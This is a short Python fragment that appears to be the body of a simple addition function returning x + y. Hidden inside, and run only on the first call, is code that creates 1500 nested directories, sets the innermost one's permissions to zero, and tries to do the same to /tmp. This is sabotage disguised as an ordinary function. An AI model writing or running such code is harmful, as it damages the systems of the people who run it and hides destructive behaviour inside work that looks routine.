    import posix
    if "done" not in globals():
        for number in range(1500):
            posix.mkdir("d")
            posix.chdir("d")
        posix.chmod(".", 0)
        posix.chmod("/tmp", 0)
        globals()["done"] = True
    return x + y
